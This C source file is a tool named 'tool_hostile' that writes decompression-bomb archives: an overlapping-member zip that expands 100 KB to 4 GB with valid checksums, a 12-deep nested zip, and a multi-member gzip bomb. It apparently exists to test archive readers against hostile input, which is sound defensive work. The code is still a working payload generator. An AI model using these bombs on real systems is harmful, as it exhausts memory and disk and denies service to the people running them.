/* tool_hostile KIND FILE: files that want to be the end of whoever reads them.
 *   zip-overlap   a zip of 1,000 members that share their bytes: each one's data quotes the next one's header and goes on with its
 *                 data, so that 100 KB are 4 GB, with every checksum right
 *   zip-nested    zips in zips, 12 deep
 *   gz-members    4,000 members of gzip, each a kilobyte that is a megabyte */
#include <archive.h>
#include <archive_entry.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "base/arena.h"
#include "base/file.h"
#include "base/str.h"

#define MEMBERS 1000
#define KERNEL (4u << 20)
#define HEADER 30
#define NAME 8                         /* "0000.txt" */
#define QUOTE (5 + HEADER + NAME)      /* a stored block with a header and a name */

static void put(struct buf *b, uint32_t v, int bytes)
{
    for (int i = 0; i < bytes; i++)
        buf_addc(b, (char)(v >> 8 * i));
}

/* n times 'a'. */
static void pack(struct buf *out, size_t n, int window)
{
    char *same = mem_alloc(n);
    z_stream z = { .next_in = (Bytef *)same, .avail_in = (uInt)n };

    memset(same, 'a', n);
    if (deflateInit2(&z, 9, Z_DEFLATED, window, 9, Z_DEFAULT_STRATEGY) != Z_OK)
        abort();
    buf_reserve(out, deflateBound(&z, n));
    z.next_out = (Bytef *)out->p + out->n;
    z.avail_out = (uInt)deflateBound(&z, n);
    if (deflate(&z, Z_FINISH) != Z_STREAM_END)
        abort();
    out->n = (size_t)((char *)z.next_out - out->p);
    deflateEnd(&z);
    free(same);
}

struct member {
    uint32_t crc, packed, size;
};

/* The part that a local header and the directory's entry share, from "version needed" to the lengths. */
static void put_member(struct buf *b, const struct member *m)
{
    put(b, 20, 2);
    put(b, 0, 2);
    put(b, 8, 2);
    put(b, 0x21 << 16, 4);
    put(b, m->crc, 4);
    put(b, m->packed, 4);
    put(b, m->size, 4);
    put(b, NAME, 2);
    put(b, 0, 2);
}

static void put_name(struct buf *b, int i)
{
    buf_printf(b, "%04d.txt", i);
}

static void put_header(struct buf *b, const struct member *m, int i)
{
    put(b, 0x04034b50, 4);
    put_member(b, m);
    put_name(b, i);
}

static void zip_overlap(struct buf *out)
{
    struct member m[MEMBERS];
    struct buf kernel = { 0 };
    char *same = mem_alloc(KERNEL);
    size_t directory;
    uint32_t length;

    memset(same, 'a', KERNEL);
    pack(&kernel, KERNEL, -15);
    m[MEMBERS - 1] = (struct member){ (uint32_t)crc32(0, (Bytef *)same, KERNEL), (uint32_t)kernel.n, KERNEL };
    for (int i = MEMBERS - 2; i >= 0; i--) {
        struct buf h = { 0 };
        put_header(&h, &m[i + 1], i + 1);
        m[i].crc = (uint32_t)crc32_combine(crc32(0, (Bytef *)h.p, (uInt)h.n), m[i + 1].crc, m[i + 1].size);
        m[i].packed = m[i + 1].packed + QUOTE;
        m[i].size = m[i + 1].size + (uint32_t)h.n;
        buf_release(&h);
    }
    for (int i = 0; i < MEMBERS; i++) {
        put_header(out, &m[i], i);
        if (i < MEMBERS - 1) {
            put(out, 0, 1);                         /* a stored block, not the last */
            put(out, HEADER + NAME, 2);
            put(out, 0xffff - (HEADER + NAME), 2);
        }
    }
    buf_add(out, kernel.p, kernel.n);
    directory = out->n;
    for (int i = 0; i < MEMBERS; i++) {
        put(out, 0x02014b50, 4);
        put(out, 20, 2);
        put_member(out, &m[i]);
        put(out, 0, 2);
        put(out, 0, 2);
        put(out, 0, 2);
        put(out, 0, 4);
        put(out, (uint32_t)i * QUOTE, 4);
        put_name(out, i);
    }
    length = (uint32_t)(out->n - directory);
    put(out, 0x06054b50, 4);
    put(out, 0, 4);
    put(out, MEMBERS, 2);
    put(out, MEMBERS, 2);
    put(out, length, 4);
    put(out, (uint32_t)directory, 4);
    put(out, 0, 2);
    buf_release(&kernel);
    free(same);
}

static la_ssize_t to_buf(struct archive *a, void *ctx, const void *p, size_t n)
{
    buf_add(ctx, p, n);
    return (la_ssize_t)n;
}

static void zip_one(const char *name, struct buf *bytes)
{
    struct archive *a = archive_write_new();
    struct archive_entry *e = archive_entry_new();
    struct buf zip = { 0 };

    archive_write_set_format_zip(a);
    archive_write_set_bytes_per_block(a, 0);
    archive_entry_set_pathname(e, name);
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_size(e, (la_int64_t)bytes->n);
    if (archive_write_open(a, &zip, NULL, to_buf, NULL) != ARCHIVE_OK || archive_write_header(a, e) != ARCHIVE_OK ||
        archive_write_data(a, bytes->p, bytes->n) != (la_ssize_t)bytes->n || archive_write_close(a) != ARCHIVE_OK)
        abort();
    archive_entry_free(e);
    archive_write_free(a);
    buf_release(bytes);
    *bytes = zip;
}

static void zip_nested(struct buf *out)
{
    buf_adds(out, "What nobody ever reads.\n");
    zip_one("deep.txt", out);
    for (int i = 1; i < 12; i++)
        zip_one("in.zip", out);
}

static void gz_members(struct buf *out)
{
    struct buf one = { 0 };

    pack(&one, 1u << 20, 31);
    for (int i = 0; i < 4000; i++)
        buf_add(out, one.p, one.n);
    buf_release(&one);
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*make)(struct buf *out);
    } kinds[] = { { "zip-overlap", zip_overlap }, { "zip-nested", zip_nested }, { "gz-members", gz_members } };
    struct buf b = { 0 };

    for (size_t i = 0; argc == 3 && i < sizeof kinds / sizeof kinds[0]; i++)
        if (strcmp(argv[1], kinds[i].name) == 0)
            kinds[i].make(&b);
    if (b.n == 0 || file_write_atomic(argv[2], b.p, b.n) != ST_OK) {
        fprintf(stderr, "usage: tool_hostile zip-overlap|zip-nested|gz-members FILE\n");
        return 2;
    }
    buf_release(&b);
    return 0;
}
